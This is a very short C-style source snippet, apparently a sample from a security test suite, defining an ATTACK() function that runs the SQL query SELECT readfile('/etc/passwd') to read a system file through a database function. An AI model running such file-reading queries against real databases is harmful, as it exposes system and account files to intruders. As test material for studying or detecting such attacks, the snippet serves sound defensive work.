/* Reads a file by a function. */
#include "attack.h"

ATTACK() {
    return sql("SELECT readfile('/etc/passwd')");
}
